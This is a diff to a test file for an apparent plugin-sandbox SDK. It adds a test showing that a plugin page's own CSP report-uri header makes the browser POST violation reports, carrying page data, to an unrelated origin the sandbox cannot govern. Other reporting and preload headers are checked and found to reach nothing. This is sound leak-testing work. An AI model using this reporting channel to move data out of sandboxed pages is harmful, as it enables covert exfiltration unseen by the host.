@@ -10,7 +10,8 @@
 // carrying a token unique to its attempt (`egress-token=<run>.<channel>.<target>`); after a
 // settle period the logs are read, and every token that reached an origin the mode may not
 // reach is a leak, named by its channel. What each mode may reach (DESIGN §1):
-//   iframe + src     its own (plugin) origin only
+//   iframe + src     its own (plugin) origin only (and, by its server's own headers, one
+//                    documented residual: its own CSP's violation reports, where that CSP says)
 //   bundle iframe    nothing
 //   iframe + srcdoc  nothing
 //   worker           nothing — with the runner page served without any CSP header
@@ -309,6 +310,41 @@ test('a plugin page served without Allow-CSP-From is refused quickly: MOUNT_FAIL
   assert.equal(status.code, 'MOUNT_FAILED');
   await new Promise((res) => setTimeout(res, SETTLE_MS));
   assert.deepEqual(byOrigin(hits(cfg.run).filter((h) => h.origin !== 'plugins')), {}, 'the refused page still reached other origins');
+});
+
+// The plugin's server is the plugin's: it sends its page with whatever headers it likes. The
+// SDK's policy (the frame's `csp` attribute) applies on top of the page's own and governs every
+// request the page makes, but not where the browser sends the violation reports of the page's
+// own policy (`report-uri`): no policy of the embedder governs reporting. A residual of `src`
+// pages (docs/security.md), pinned here from the attacker's side: if a browser closes it, this
+// test says so; if another header opens a way out, it says that too.
+test('iframe + src, its server\'s own headers: only the documented residual reaches another origin (its own CSP\'s report-uri: the browser POSTs each violation report there, with the blocked URL the page chose, data included); its Link preload and prefetch, Reporting-Endpoints / report-to and NEL reach nothing', async () => {
+  counter += 1;
+  const run = runId('server-headers');
+  const o = origins();
+  const secret = `secret-${randomBytes(6).toString('hex')}`;
+  const out = (channel, ext) => sinkUrl(o.unrelated, channel, ext, run, 'unrelated');
+  const headers = {
+    // (A policy with `report-to` reports only there: the Reporting API's, in the second one.)
+    'content-security-policy': `img-src 'none'; report-uri ${out('report-uri', '')}`,
+    'content-security-policy-report-only': `img-src 'none'; report-to ep`,
+    'reporting-endpoints': `ep="${out('report-to', '')}"`,
+    'report-to': JSON.stringify({ group: 'nel', max_age: 600, endpoints: [{ url: out('nel', '') }] }),
+    nel: JSON.stringify({ report_to: 'nel', max_age: 600, success_fraction: 1 }),
+    link: `<${out('link-preload', '.png')}>; rel=preload; as=image, <${out('link-prefetch', '.js')}>; rel=prefetch`,
+  };
+  // An image of its own origin, which its own policy forbids, its URL carrying the page's data.
+  const cfg = { run, blocked: `${sinkUrl(o.plugins, 'blocked-img', '.png', run, 'plugins')}&data=${secret}` };
+  const query = `server-headers=${encodeURIComponent(JSON.stringify(headers))}`;
+  const r = await runPlan({ manifest: manifest(`egress-headers-${counter}`), mount: { mode: 'iframe', src: srcPage(cfg, query), timeout: 20_000 } });
+  assert.ok(r.event, `the plugin never reported (it did not run): ${JSON.stringify(r.failedEarly ?? await mountState(r.id))}`);
+  await hitsOnce(run, (list) => list.some((h) => h.channel === 'report-uri'));
+  await new Promise((res) => setTimeout(res, SETTLE_MS));
+  assert.deepEqual(byOrigin(hits(run)), { unrelated: 'report-uri (POST)' });
+  const reports = env.servers.logs.unrelated.filter((q) => q.url.includes(`egress-token=${run}.report-uri.`));
+  assert.ok(reports.some((q) => q.body?.includes(secret)), `no report carried the page's data: ${JSON.stringify(reports.map((q) => q.body))}`);
+  // The plugin was mounted and stays so: nothing the host can see happened.
+  assert.equal((await mountState(r.id)).status.state, 'mounted');
 });
 
 /** Mount a plugin that connects, says `egress-navigating`, then sets its own location. */
